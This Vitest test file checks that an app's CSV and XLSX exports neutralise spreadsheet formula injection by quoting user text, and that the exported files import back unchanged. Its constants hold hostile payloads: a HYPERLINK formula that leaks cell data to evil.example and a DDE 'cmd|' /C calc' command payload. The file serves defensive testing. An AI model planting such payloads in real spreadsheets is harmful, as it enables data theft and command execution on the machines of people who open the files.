/**
 * Spreadsheet formula injection (issue 15, item 2): names, titles, sources and comments
 * typed by users come out of every CSV and XLSX we write with a quote in front when
 * they start with = + - @ tab or CR — the public data.csv, the values CSV/XLSX export
 * and the meeting-report XLSX — while numbers stay numbers, and an exported values
 * file imports back unchanged. Both stores.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { createTestStore, STORE_KINDS, type TestStore } from '../helpers/stores.js';
import { loadFixtures, testApp } from '../helpers/app.js';
import { adminHeaders } from '../helpers/auth.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Details")';
const DDE = "-2+3+cmd|' /C calc'!A0";
const AT = '@SUM(1+1)*cmd';
const TAB = '\t=1+1';
const PLUS = '+1-1';

/** A text cell a spreadsheet could run: starts with a trigger and is not just a number. */
function dangerous(text: string): boolean {
  return /^[=+\-@\t\r]/.test(text) && !/^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/.test(text);
}

async function xlsxCells(body: Buffer): Promise<ExcelJS.CellValue[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const cells: ExcelJS.CellValue[] = [];
  for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => cells.push(c.value)));
  return cells;
}

describe.each(STORE_KINDS)('formula injection in CSV and XLSX on %s', (kind) => {
  let store: TestStore;
  let app: FastifyInstance;
  let headers: Record<string, string>;

  beforeAll(async () => {
    store = await createTestStore(kind);
    await loadFixtures(store);
    app = await testApp(store, () => new Date('2024-09-30T10:00:00Z'));
    headers = await adminHeaders(store);
    // What a secretariat could type in a unit name or a task title.
    await store.db
      .updateTable('org_units')
      .set({ name: JSON.stringify({ en: HYPERLINK, vi: AT }) })
      .where('code', '=', 'VN-HN')
      .execute();
    await store.db
      .updateTable('org_units')
      .set({ name: JSON.stringify({ en: TAB, vi: PLUS }) })
      .where('code', '=', 'VN-MPS')
      .execute();
    await store.db
      .updateTable('programme_nodes')
      .set({ title: JSON.stringify({ en: DDE, vi: HYPERLINK }) })
      .where('code', 'in', ['DEAD-ZONES', 'ESSENTIAL-53'])
      .execute();
  });
  afterAll(async () => {
    await app?.close();
    await store?.close();
  });

  it('public data.csv: quoted text, numbers as they are', async () => {
    const put = await app.inject({
      method: 'PUT',
      url: '/api/programmes/VN-NDX-TEST/publication',
      headers,
      payload: { published: true },
    });
    expect(put.statusCode).toBe(200);
    const csv = await app.inject({ url: '/api/public/programmes/VN-NDX-TEST/data.csv' });
    expect(csv.statusCode).toBe(200);
    const rows = parse<Record<string, string>>(csv.body, { bom: true, columns: true });
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) for (const [k, v] of Object.entries(row)) expect(dangerous(v), `${k}: ${v}`).toBe(false);
    const hn = rows.find((r) => r.unit === 'VN-HN')!;
    expect(hn.unit_name_en).toBe(`'${HYPERLINK}`);
    expect(hn.unit_name_vi).toBe(`'${AT}`);
    expect(rows.find((r) => r.task === 'DEAD-ZONES')!.title_en).toBe(`'${DDE}`);
    expect(rows.find((r) => r.unit === 'VN-MPS')!.unit_name_en).toBe(`'${TAB}`);
    expect(rows.every((r) => /^\d+(\.\d+)?$/.test(r.percent!))).toBe(true);
  });

  it('meeting-report XLSX: quoted text cells, number and date cells untouched', async () => {
    const r = await app.inject({
      headers,
      url: '/api/meeting-report?programme=VN-NDX-TEST&period=2024Q3&format=xlsx&lang=en',
    });
    expect(r.statusCode).toBe(200);
    const cells = await xlsxCells(r.rawPayload);
    const texts = cells.filter((c): c is string => typeof c === 'string');
    expect(texts.filter(dangerous)).toEqual([]);
    expect(texts).toContain(`'${DDE}`);
    expect(texts).toContain(`'${TAB}`);
    expect(cells.some((c) => typeof c === 'number')).toBe(true);
    expect(cells.some((c) => c instanceof Date)).toBe(true);
  });

  it('values CSV and XLSX export: quoted source and comment, the value a number; an export imports back unchanged', async () => {
    const ind = await app.inject({
      method: 'POST',
      url: '/api/indicators',
      headers,
      payload: { code: 'net_change', name: { en: 'Net change' }, unit: 'x', valueType: 'number' },
    });
    expect(ind.statusCode).toBe(201);
    const file = [
      'indicator,unit,period,value,source,comment',
      `net_change,VN-HN,2024M07,-3,${AT},"${HYPERLINK.replace(/"/g, '""')}"`,
      `net_change,VN-HN,2024M08,2.5,-,${DDE}`,
    ].join('\n');
    const imported = await app.inject({
      method: 'POST',
      url: '/api/values/import',
      headers: { ...headers, 'content-type': 'text/csv' },
      payload: file,
    });
    expect(imported.statusCode, imported.body).toBe(201);
    const url = '/api/values/export?indicator=net_change&unit=VN-HN';

    const csv = await app.inject({ headers, url: `${url}&format=csv` });
    // eslint-disable-next-line @typescript-eslint/no-unnecessary-type-assertion -- csv-parse overloads need the cast
    const records = parse(csv.body) as string[][];
    for (const rec of records) for (const v of rec) expect(dangerous(v), v).toBe(false);
    expect(records.slice(1)).toEqual([
      ['net_change', 'VN-HN', '2024M07', '-3', `'${AT}`, `'${HYPERLINK}`],
      ['net_change', 'VN-HN', '2024M08', '2.5', "'-", `'${DDE}`],
    ]);

    const xlsx = await app.inject({ headers, url: `${url}&format=xlsx` });
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    expect(ws.getRow(2).getCell(4).value).toBe(-3);
    expect(ws.getRow(2).getCell(6).value).toBe(`'${HYPERLINK}`);
    expect(ws.getRow(3).getCell(5).value).toBe("'-");
    expect((await xlsxCells(xlsx.rawPayload)).filter((c) => typeof c === 'string' && dangerous(c))).toEqual([]);

    // Both exports import back as the same values (the quote is undone on import).
    const stored = () =>
      store.db
        .selectFrom('data_values')
        .select(['period', 'value', 'source', 'comment'])
        .orderBy('period')
        .execute()
        .then((rows) => rows.map((x) => ({ ...x, value: Number(x.value) })));
    const before = await stored();
    expect(before.map((x) => [x.value, x.source, x.comment])).toEqual([
      [-3, AT, HYPERLINK],
      [2.5, '-', DDE],
    ]);
    for (const [body, type] of [
      [csv.body, 'text/csv'],
      [xlsx.rawPayload, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
    ] as const) {
      const again = await app.inject({
        method: 'POST',
        url: '/api/values/import',
        headers: { ...headers, 'content-type': type },
        payload: body,
      });
      expect(again.statusCode, again.body).toBe(201);
      expect((await stored()).map((x) => [x.value, x.source, x.comment])).toEqual(
        before.map((x) => [x.value, x.source, x.comment]),
      );
    }
  });
});
